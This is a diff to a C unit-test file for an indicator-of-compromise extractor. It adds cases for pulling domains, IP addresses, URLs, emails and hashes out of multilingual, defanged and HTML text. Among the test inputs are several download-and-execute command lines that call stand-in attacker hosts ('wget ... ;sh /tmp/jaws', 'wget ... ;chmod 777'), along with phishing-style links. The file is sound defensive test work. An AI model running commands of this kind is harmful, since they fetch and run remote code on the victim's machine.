@@ -46,6 +46,71 @@ static void check(const struct row *rows, size_t count)
 
 #define EVIL_URL "url http://evil.example/x\ndomain evil.example"
 
+/* Commas, full stops and letters of scripts that are not Latin end a value. */
+static void other_scripts(void **state)
+{
+    UNUSED(state);
+    static const struct row rows[] = {
+        {"evil-ar.com، 198.51.100.6؛ bad@evil.example، evil-hi.com। http://evil.example/x؟",
+         "domain evil-ar.com\nipv4 198.51.100.6\n"
+         "email bad@evil.example\ndomain evil-hi.com\n" EVIL_URL},
+        {"http://evil.example/xและ198.51.100.11ครับ", EVIL_URL "\nipv4 198.51.100.11"},
+        {"ネット上でｅｖｉｌ．ｃｏｍ、ＩＰは１９８．５１．１００．８", "domain evil.com\nipv4 198.51.100.8"},
+        {"الإصدار 1.2.3.4 バージョン1.2.3.5 wersji 1.2.3.6", ""},
+    };
+    check(rows, ARRAY_SIZE(rows));
+}
+
+/* What stands before a colon is a label, and what is behind it the value. */
+static void labels(void **state)
+{
+    UNUSED(state);
+    static const struct row rows[] = {
+        {"[IPv6:2001:db8::25] IPv4:198.51.100.7 IP1:198.51.100.8", "ipv6 2001:db8::25\nipv4 198.51.100.7\nipv4 198.51.100.8"},
+        {"C2:evil.com IP:2001:db8::1", "domain evil.com\nipv6 2001:db8::1"},
+        {"email:bob@evil.example From:dave@evil.example", "email bob@evil.example\nemail dave@evil.example"},
+        {"ORGANIZER;CN=Evil:mailto:organizer@evil.example", "email organizer@evil.example"},
+        {"vuln:CVE-2024-3401 mac:00:16:3e:aa:bb:02 AS:64500", "cve CVE-2024-3401\nmac 00:16:3e:aa:bb:02\nasn 64500"},
+        {"AS 64501 (Telecom) SAME AS 5, AS 2026 and as 64502", "asn 64501"},
+        {"ab:cd:ef:01:23:45", "mac ab:cd:ef:01:23:45"},
+        {"PGP 0x9D8FAB12CD34EF569D8FAB12CD34EF569D8FAB12 fingerprint: A4E317B69D8FAB12CD34EF569D8FAB12CD34EF56", ""},
+        {"sha1: 9d8fab12cd34ef569d8fab12cd34ef569d8fab12", "sha1 9d8fab12cd34ef569d8fab12cd34ef569d8fab12"},
+        {"CVE2019-0709 CVE_2019_0708", "cve CVE-2019-0709\ncve CVE-2019-0708"},
+    };
+    check(rows, ARRAY_SIZE(rows));
+}
+
+/* What a URL stands in: commands, logs, emphasis, brackets of forums, quotations. */
+static void surroundings(void **state)
+{
+    UNUSED(state);
+    static const struct row rows[] = {
+        {"cmd=wget+http://evil.example/x+-O+/tmp/y;curl+http://198.51.100.84:8088/m+-O",
+         EVIL_URL "\nurl http://198.51.100.84:8088/m\nipv4 198.51.100.84"},
+        {"wget+198.51.100.77/jaws;sh+/tmp/jaws", "ipv4 198.51.100.77"},
+        {"*hxxp://evil[.]example/x* _hxxp://evil[.]example/x_", EVIL_URL},
+        {"wget http://evil.example/x;chmod 777 x", EVIL_URL},
+        {"http://evil.example/x;cat=2", "url http://evil.example/x;cat=2\ndomain evil.example"},
+        {"[url=http://evil.example/x]www.bank.example[/url] [url=http://[2001:db8::1]/]z[/url]",
+         EVIL_URL "\nurl http://[2001:db8::1]/\nipv6 2001:db8::1"},
+        {"\"http:\\/\\/evil.example\\/x\"", EVIL_URL},
+        {"> <http://evil.ex\n> ample/x> and <http://evil.example/x\n>", EVIL_URL},
+        {"http(s)://evil.example/x https?://evil.example/x", "url https://evil.example/x\ndomain evil.example"},
+        {"file://198.51.100.21/a.exe mongodb://u:p@evil.com:27017/x \\\\198.51.100.20\\share",
+         "ipv4 198.51.100.21\ndomain evil.com\nipv4 198.51.100.20"},
+        {"++198.51.100[.]38++, +198.51.100[.]39+, ++www.evil[.]com++", "ipv4 198.51.100.38\nipv4 198.51.100.39\ndomain www.evil.com"},
+        {"'198.51.100.0 - 198.51.100.255'", "cidr 198.51.100.0/24"},
+        {"root@198.51.100.7 198.51.100.11/198.51.100.12", "ipv4 198.51.100.7\nipv4 198.51.100.11\nipv4 198.51.100.12"},
+        {"198.51.100.16-17", "cidr 198.51.100.16/31"},
+        {"IP 198.51.100.33.53 > 203.0.113.9.4444: UDP, oid 1.3.6.1.4", "ipv4 198.51.100.33\nipv4 203.0.113.9"},
+        {"evil[-]bank[.]com, a\\[.\\]com and me [arroba] evil [punto] example",
+         "domain evil-bank.com\ndomain a.com\nemail me@evil.example"},
+        {"bounces+1-ann=a.com@b.com from=bob@b.com d=3Devil.com", "email bounces+1-ann=a.com@b.com\nemail bob@b.com\ndomain evil.com"},
+        {"0016.3eaa.bb02 2024.0115.1030 ff:ff:ff:ff:ff:ff", "mac 00:16:3e:aa:bb:02"},
+    };
+    check(rows, ARRAY_SIZE(rows));
+}
+
 static void defanged(void **state)
 {
     UNUSED(state);
@@ -248,6 +313,18 @@ static void bare_names(void **state)
         {"deadbeefdeadbeefdeadbeefdeadbeef12345678 is a commit", "sha1 deadbeefdeadbeefdeadbeefdeadbeef12345678"},
         {"12345678901234567890123456789012", ""},
         {"1BoatSLRHtKNngkdXEeobR76b53LETtpyX", ""},
+        {"a2d.pl srv1.bank.pl sajt.rs moj-sajt.rs mail.gov.md test.pl index.pl", "domain a2d.pl\ndomain srv1.bank.pl\ndomain sajt.rs\n"
+                                                                                 "domain moj-sajt.rs\ndomain mail.gov.md"},
+        {"login-poste.it/verify bank99.in evil.io:8080 t.me/evil and well.it/x", "domain login-poste.it\ndomain bank99.in\ndomain evil.io\n"
+                                                                                 "domain t.me\ndomain well.it"},
+        {"Seen:\nluis.in\n  done.it  \nsetup.py\nand more.in", "domain luis.in\ndomain done.it"},
+        {"The sites evil.it, two.in and three.io are bad.it", "domain evil.it\ndomain two.in\ndomain three.io"},
+        {"versions 9.0.0.1, 9.0.0.2 and 9.0.0.3 FileVersion: 1.0.0.1; at 198.51.100.3", "ipv4 198.51.100.3"},
+        {"com.android.providers.media io.github.foo log4j.properties bundle.js.map archive.tar.bz", ""},
+        {"Backdoor.Linux.Mirai.ba Trojan.Win32.Zbot.de W97M.VBS.Agent.pk", ""},
+        {"invoice[.]pdf[.]exe index(.)php powershell\\.exe System\\.Net\\.Web list[.map(x)] evil\\.com", "domain evil.com"},
+        {"References: <a@mail.evil.com>\n <b@mail.evil.com> <c@evil.com>", ""},
+        {"logo@2x.png ann@example.comahh ann@intra.local", "email ann@intra.local"},
     };
     check(rows, ARRAY_SIZE(rows));
 }
@@ -267,17 +344,30 @@ static void originals(void **state)
 static void html(void **state)
 {
     UNUSED(state);
-    static const char page[] = "<p>Pay at <A HREF='http&#58;//evil.example/x'>bank.example.com</a> or <b>198.51</b>.100.7"
-                               "<script>http://script.example/</script><form action=\"http://form.example/post\">";
-    struct buf text, out;
-    buf_init(&text, 4096);
-    buf_init(&out, 4096);
-    assert_true(html_text(page, strlen(page), &text));
-    extract(buf_text(&text), &out);
-    assert_string_equal(buf_text(&out),
-                        "domain bank.example.com\n" EVIL_URL "\nipv4 198.51.100.7\nurl http://form.example/post\ndomain form.example");
-    buf_clear(&text);
-    buf_clear(&out);
+    static const struct row rows[] = {
+        {"<p>Pay at <A HREF='http&#58;//evil.example/x'>bank.example.com</a> or <b>198.51</b>.100.7"
+         "<script>http://script.example/</script><form action=\"http://form.example/post\">",
+         "domain bank.example.com\n" EVIL_URL "\nipv4 198.51.100.7\nurl http://form.example/post\ndomain form.example"},
+        {"<map><area href=http://evil.example/x></map>", EVIL_URL},
+        {"<button formaction='http://evil.example/x'>Go</button>", EVIL_URL},
+        {"<svg><a xlink:href='http://evil.example/x'>Go</a></svg>", EVIL_URL},
+        {"<meta http-equiv=refresh content='0; URL=http://evil.example/x'><meta content='a; url'>", EVIL_URL},
+        {"<a href='http://evil.example/x'><button>Go</button></a>", EVIL_URL},
+        {"<a href='http&colon;&sol;&sol;evil&period;example&sol;x'>Go</a>", EVIL_URL},
+        {"<a href='http:\\\\evil.example\\x'>Go</a>", EVIL_URL},
+        {"<a href='//evil.com/x'>Go</a><a href='mailto:ann@evil.example?subject=x'>Ann</a><a href='tel:+4930123456'>Ring</a>",
+         "domain evil.com\nemail ann@evil.example\nphone +4930123456"},
+        {"<center>a.example.com</center><option>b.example.com<option>c.example.com<label>d.example.com</label>e",
+         "domain a.example.com\ndomain b.example.com\ndomain c.example.com\ndomain d.example.com"},
+    };
+    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+        struct buf text;
+        buf_init(&text, 4096);
+        assert_true(html_text(rows[i].text, strlen(rows[i].text), &text));
+        const struct row row = {buf_text(&text), rows[i].found};
+        check(&row, 1);
+        buf_clear(&text);
+    }
 }
 
 static void bounded(void **state)
@@ -389,9 +479,10 @@ static void labelled(void **state)
 
 int main(void)
 {
-    const struct CMUnitTest tests[] = {cmocka_unit_test(defanged),  cmocka_unit_test(unicode),   cmocka_unit_test(plain),
-                                       cmocka_unit_test(lists),     cmocka_unit_test(gateways),  cmocka_unit_test(bare_names),
-                                       cmocka_unit_test(originals), cmocka_unit_test(html),      cmocka_unit_test(bounded),
-                                       cmocka_unit_test(labelled),  cmocka_unit_test(long_lists)};
+    const struct CMUnitTest tests[] = {cmocka_unit_test(defanged),  cmocka_unit_test(unicode),     cmocka_unit_test(plain),
+                                       cmocka_unit_test(lists),     cmocka_unit_test(gateways),    cmocka_unit_test(bare_names),
+                                       cmocka_unit_test(originals), cmocka_unit_test(html),        cmocka_unit_test(bounded),
+                                       cmocka_unit_test(labelled),  cmocka_unit_test(long_lists),  cmocka_unit_test(other_scripts),
+                                       cmocka_unit_test(labels),    cmocka_unit_test(surroundings)};
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
